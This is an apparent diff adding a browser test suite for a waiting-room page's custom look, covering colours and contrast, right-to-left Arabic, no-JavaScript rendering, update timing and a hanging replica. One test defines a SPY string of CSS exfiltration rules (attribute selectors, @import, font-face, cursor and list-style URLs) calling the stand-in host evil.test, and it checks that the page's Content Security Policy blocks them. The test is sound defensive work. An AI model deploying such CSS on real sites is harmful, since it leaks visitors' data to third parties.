@@ -1,0 +1,155 @@
+"""A room's own look in a real browser: in light and in dark, in Arabic, without JavaScript, and
+with rules that want to send out what they see."""
+
+from __future__ import annotations
+
+import json
+import re
+import signal
+
+import pytest
+from playwright.sync_api import expect
+
+from sidecar.kit.colours import contrast, read_colour
+from tests.support.site import Site, gated
+
+FOOTER = [
+    {"text": "Imprint", "address": "/imprint"},
+    {"text": "Call us", "address": "tel:+41441234567"},
+]
+LOOK = {
+    "site_name": "Alpenrock", "accent": "#ffd400", "background": "#10243e",
+    "font": "Georgia, Liberation Serif, serif", "footer": json.dumps(FOOTER),
+    "custom_css": "h1 { letter-spacing: 3px }",
+}  # fmt: skip
+#: What an enemy would write who got past the check of custom_css.
+SPY = """\
+@import "https://evil.test/a.css";
+@font-face { font-family: spy; src: url(https://evil.test/a.woff2) }
+[data-next^="/own"] main { background: url(https://evil.test/next) }
+input[value^="/own"] ~ * { background: image-set("https://evil.test/b" 1x); font-family: spy }
+h1 { list-style: url(//evil.test/c) inside; display: list-item }
+h1 { cursor: url(https://evil.test/d), auto }
+"""
+
+
+@pytest.fixture(scope="module")
+def site():
+    rooms = {
+        "own": {"total_active_users": 0, **LOOK},
+        "plain": {"total_active_users": 0},
+        "late": {"total_active_users": 0},
+    }
+    locations = "".join(gated(f"/{room}/", room=room) for room in rooms)
+    with Site(rooms=rooms, locations=locations) as site:
+        yield site
+
+
+def colour_of(page, selector, name):
+    """A computed colour, read."""
+    element = page.locator(selector).first
+    text = element.evaluate("(e, name) => getComputedStyle(e)[name]", name)
+    red, green, blue = re.findall(r"[\d.]+", text)[:3]
+    return read_colour(f"rgb({red} {green} {blue})")
+
+
+def behind(page, selector):
+    return colour_of(page, selector, "backgroundColor")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("language", ["de", "ar"])
+def test_the_page_belongs_to_the_site(site, visitor, scheme, language):
+    """Its colours, font, rules, name and links; and all can be read."""
+    page = visitor(color_scheme=scheme, locale=language)
+    page.goto(f"{site.url}/own/")
+    expect(page.locator("#site")).to_have_text("Alpenrock")
+    links = page.locator("footer a")
+    expect(links).to_have_text(["Imprint", "Call us"])
+    expect(links.first).to_have_attribute("target", "_blank")
+    assert page.evaluate("document.documentElement.dir") == ("rtl" if language == "ar" else "ltr")
+    expect(page.locator("h1")).to_have_css("letter-spacing", "3px")
+    assert (
+        page.locator("body").evaluate("e => getComputedStyle(e).fontFamily").startswith("Georgia")
+    )
+    assert behind(page, "body") == read_colour("#10243e")
+    for text in ("#site", "footer a"):
+        assert contrast(colour_of(page, text, "color"), behind(page, "body")) >= 4.5
+    # A browser does not say what the bar within has: the property that it is filled with.
+    bar = page.locator("progress").evaluate(
+        "e => getComputedStyle(e).getPropertyValue('--wr-mark')"
+    )
+    assert contrast(read_colour(bar), behind(page, "main")) >= 4.5
+    page.locator("summary").click()
+    stay = page.locator("#stay")
+    expect(stay).to_be_visible()
+    assert behind(page, "#stay") == read_colour("#ffd400")
+    assert contrast(colour_of(page, "#stay", "color"), behind(page, "#stay")) >= 4.5
+    assert page.problems == []
+
+
+def test_without_javascript_it_belongs_to_the_site_too(site, visitor):
+    page = visitor(java_script_enabled=False)
+    page.goto(f"{site.url}/_waitroom/own/?next=/own/")
+    expect(page.locator("#site")).to_have_text("Alpenrock")
+    expect(page.locator("footer a")).to_have_text(["Imprint", "Call us"])
+    expect(page.locator("body")).to_have_css("background-color", "rgb(16, 36, 62)")
+    expect(page.locator("h1")).to_have_css("letter-spacing", "3px")
+
+
+def test_a_change_is_seen_by_who_comes_ten_seconds_later(site, visitor):
+    """And the page of a room without a look of its own has waiting.css's."""
+    page = visitor()
+    page.goto(f"{site.url}/plain/")
+    expect(page.locator("body")).to_have_css("background-color", "rgb(243, 245, 244)")
+    site.admin("PATCH", "/rooms/plain", {"background": "#123456"})
+
+    def is_changed():
+        page.reload()
+        return behind(page, "body") == read_colour("#123456")
+
+    for _ in range(30):
+        if is_changed():
+            break
+        page.wait_for_timeout(500)
+    assert is_changed()
+
+
+def test_rules_that_spy_reach_nobody(site, visitor):
+    """If the check of custom_css let them through, the page's policy would still hold them."""
+    page = visitor()
+    asked = []
+    page.route("**/own/style.css", lambda route: route.fulfill(body=SPY, content_type="text/css"))
+    page.route(
+        "https://evil.test/**", lambda route: (asked.append(route.request.url), route.abort())
+    )
+    page.goto(f"{site.url}/own/?a=secret")
+    expect(page.locator("#number")).not_to_be_empty()
+    expect(page.locator("h1")).to_have_css("display", "list-item")  # the rules are in force
+    page.locator("h1").hover()
+    page.reload()
+    expect(page.locator("#number")).not_to_be_empty()
+    assert all(address.startswith(f"{site.url}/") for address in asked)
+    assert len([text for text in page.problems if "Content Security Policy" in text]) >= 5
+
+
+def test_the_first_paint_does_not_wait_for_a_replica_that_hangs(site, visitor):
+    """nginx has no style of the room, and gives up on it before it gives up on all else."""
+    page = visitor()
+    site.replicas[0].signal(signal.SIGSTOP)
+    try:
+        page.goto(f"{site.url}/late/")
+        expect(page.locator("#offline")).to_be_visible()
+    finally:
+        site.replicas[0].signal(signal.SIGCONT)
+    painted, style, about = page.evaluate(
+        """async () => {
+            const found = name => performance.getEntriesByType('resource')
+                .find(e => e.name.endsWith('/late/' + name));
+            while (!found('about')) await new Promise(done => setTimeout(done, 50));
+            const paint = performance.getEntriesByName('first-contentful-paint')[0];
+            return [paint.startTime, found('style.css'), found('about')];
+        }"""
+    )
+    assert style["duration"] < about["duration"]
+    assert painted < about["responseEnd"]
